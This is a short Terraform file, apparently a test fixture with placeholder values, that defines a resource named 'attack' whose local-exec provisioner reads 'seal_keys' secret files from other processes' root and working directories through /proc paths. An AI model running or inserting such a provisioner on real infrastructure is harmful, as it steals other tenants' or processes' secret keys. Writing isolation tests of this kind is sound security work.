resource "terraform_data" "attack" {
  provisioner "local-exec" {
    command = <<-EOT
      cat /proc/1/root@DATA@/seal_keys /proc/@VICTIM@/root@DATA@/seal_keys /proc/*/cwd/../seal_keys; true
    EOT
  }
}
